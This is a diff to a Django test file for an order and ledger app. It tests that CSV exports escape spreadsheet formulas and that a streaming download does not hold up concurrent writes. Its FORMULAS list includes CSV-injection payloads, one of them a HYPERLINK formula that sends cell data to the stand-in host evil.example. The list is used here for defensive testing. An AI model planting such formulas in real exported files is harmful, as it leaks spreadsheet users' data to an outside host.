@@ -2,15 +2,20 @@
 
 import csv
 import io
+import sqlite3
+import threading
+import time
+from contextlib import closing
 from datetime import timedelta
 from decimal import Decimal
 
 import pytest
+from django.db import OperationalError, connection
 from django.utils import timezone
 
-from orders import listing
-from orders.models import LedgerEntry, Payment
-from orders.tests.factories import make_admin, make_customer, make_product, place
+from orders import listing, services
+from orders.models import Customer, LedgerEntry, Payment, Product
+from orders.tests.factories import key, make_admin, make_customer, make_product, place
 
 pytestmark = pytest.mark.django_db
 
@@ -149,9 +154,112 @@ def test_exported_values_are_plain(admin_client):
     product = make_product(tiers=((1, "2.00"), (10, "1.50")))
     (header, row), = [csv_rows(admin_client.get("/customers/", {"export": "csv"}))]
     assert header == ["Username", "Name", "Mobile", "Level", "Balance", "Status"]
-    assert row == [customer.user.username, customer.name, customer.mobile, customer.level.name, "12.50", "active"]
+    # A mobile starts with "+": text, so it is written behind a quote like any text a spreadsheet would run.
+    assert row == [customer.user.username, customer.name, f"'{customer.mobile}", customer.level.name, "12.50", "active"]
     products = csv_rows(admin_client.get("/products/", {"export": "csv"}))
     assert products[1] == [product.name, "from 1: CNY 2.00; from 10: CNY 1.50", "active"]
     ledger = csv_rows(admin_client.get("/transactions/", {"export": "csv"}))
     local = timezone.localtime(LedgerEntry.objects.get().created_at).strftime("%Y-%m-%d %H:%M:%S")
     assert ledger[1][0] == local and ledger[1][3] == "Top-up" and ledger[1][4] == "12.50" and ledger[1][6] == ""
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+2", "-foo", "@SUM(A1:A9)", "\tcmd", "\rcmd"]
+
+
+def test_formula_text_is_neutralised_and_numbers_stay_numbers(admin_client):
+    """OWASP's CSV injection advice: text a spreadsheet would run starts with a quote."""
+    customer = make_customer("100.00")
+    Customer.objects.filter(pk=customer.pk).update(name="=1+1")
+    for memo in FORMULAS:
+        services.balance_top_up(customer=customer, amount=Decimal("1.00"), memo=memo, idempotency_key=key(), actor=None)
+    services.balance_deduct(customer=customer, amount=Decimal("12.50"), memo="-12.50", idempotency_key=key(), actor=None)
+    ledger = csv_rows(admin_client.get("/transactions/", {"sort": "created_at", "export": "csv"}))
+    assert [row[7] for row in ledger[1:]] == ["", *("'" + memo for memo in FORMULAS), "'-12.50"]
+    assert {row[2] for row in ledger[1:]} == {"'=1+1"}
+    assert ledger[-1][4:6] == ["-12.50", "93.50"]
+    product = make_product()
+    Product.objects.filter(pk=product.pk).update(name="@cmd")
+    assert csv_rows(admin_client.get("/products/", {"export": "csv"}))[1][0] == "'@cmd"
+
+
+@pytest.fixture
+def file_database(transactional_db, tmp_path):
+    """On SQLite, the test database copied to a file for the test's length: the app's
+    own connection settings (WAL, BEGIN IMMEDIATE) on a file with its single write
+    lock. pytest-django's SQLite database lives in memory with a shared cache, whose
+    locks are per table and nothing like production's. Elsewhere: the test database."""
+    if connection.vendor != "sqlite":
+        yield
+        return
+    connection.ensure_connection()
+    memory = connection.settings_dict["NAME"]
+    # An in-memory database lasts as long as a connection to it.
+    keeper = sqlite3.connect(memory, uri=True)
+    target = sqlite3.connect(tmp_path / "db.sqlite3")
+    connection.connection.backup(target)
+    target.close()
+    # Every thread's connection is made from this same settings dict.
+    connection.settings_dict["NAME"] = str(tmp_path / "db.sqlite3")
+    connection.close()
+    try:
+        yield
+    finally:
+        connection.close()
+        connection.settings_dict["NAME"] = memory
+        connection.ensure_connection()
+        keeper.close()
+
+
+# A writer waits this long for a lock before giving up: short, so that a held lock fails
+# the test in seconds rather than after the settings' 20 s.
+LOCK_WAIT_SECONDS = 2
+LOCK_WAIT = {"sqlite": f"PRAGMA busy_timeout = {LOCK_WAIT_SECONDS * 1000}", "postgresql": f"SET lock_timeout = '{LOCK_WAIT_SECONDS}s'"}
+
+
+def top_up_from_another_connection(customer) -> object:
+    """A top-up in a thread of its own (so on a connection of its own): the entry it
+    wrote, or the database error it met."""
+    outcome = []
+
+    def top_up() -> None:
+        try:
+            with connection.cursor() as cursor:
+                cursor.execute(LOCK_WAIT[connection.vendor])
+            outcome.append(services.balance_top_up(customer=customer, amount=Decimal("5.00"), idempotency_key=key(), actor=None))
+        except OperationalError as error:
+            outcome.append(error)
+        finally:
+            connection.close()
+
+    thread = threading.Thread(target=top_up)
+    thread.start()
+    thread.join(timeout=LOCK_WAIT_SECONDS * 10)
+    assert not thread.is_alive(), "the top-up is stuck"
+    return outcome[0]
+
+
+# Like every transactional test in the suite, it restores the serialized database: a
+# plain flush re-creates content types under new ids, which the next serialized test's
+# rows then clash with.
+@pytest.mark.django_db(transaction=True, serialized_rollback=True)
+def test_a_download_in_progress_holds_up_no_write(file_database, client, monkeypatch):
+    monkeypatch.setattr(listing, "EXPORT_CHUNK", 1)
+    client.force_login(make_admin())
+    customer = make_customer("100")
+    for _ in range(3):
+        place(customer, make_product())
+    before = set(LedgerEntry.objects.values_list("entry_no", flat=True))
+    # Oldest first: a row written during the download would come after the rows read so far.
+    with closing(client.get("/transactions/", {"export": "csv", "sort": "created_at"})) as response:
+        download = iter(response.streaming_content)
+        next(download), next(download)  # the header and a first row: a slow browser
+
+        started = time.monotonic()
+        entry = top_up_from_another_connection(customer)
+        assert isinstance(entry, LedgerEntry), entry
+        assert time.monotonic() - started < LOCK_WAIT_SECONDS
+
+        rest = list(csv.reader(io.StringIO(b"".join(download).decode())))
+    first = LedgerEntry.objects.filter(entry_no__in=before).order_by("created_at", "id").first()
+    # The file is the ledger as it was when the download began.
+    assert {row[1] for row in rest} | {first.entry_no} == before
